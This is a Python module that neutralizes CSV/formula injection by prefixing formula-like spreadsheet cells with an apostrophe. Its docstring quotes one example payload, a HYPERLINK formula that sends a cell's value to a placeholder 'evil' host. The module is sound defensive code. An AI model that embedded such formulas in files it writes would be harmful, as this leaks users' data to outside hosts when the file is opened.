"""Cells that spreadsheets must not run: CSV/formula injection (CWE-1236).

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in
some versions, a leading tab or carriage return) as a formula, so a value such as
``=HYPERLINK("http://evil/?"&A1)`` in a CSV we write would run when someone opens it. Every CSV the
pipeline writes for people goes through ``neutralize``, and so does the analyst's ``data.csv``:
``Table.to_clean_csv`` prefixes formula-like text cells with ``'``, so analyst code sees ``'=1+2`` where
the file had ``=1+2`` (``Table.frame`` keeps the original text; numbers, dates and flags are untouched).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number ("-12.5", "+3", "-1e-3") is data, not a formula: leaving it alone keeps negative
# numbers numeric in the sheet.
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$")


def neutralize(value: object) -> object:
    """The value, with a leading ``'`` when a spreadsheet would read it as a formula.

    Non-strings (numbers, None) are returned unchanged; so are strings that are plain numbers.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def neutralize_row(values: Iterable[object]) -> list[object]:
    """``neutralize`` applied to every cell of a row (for ``csv.writer.writerow``)."""
    return [neutralize(v) for v in values]
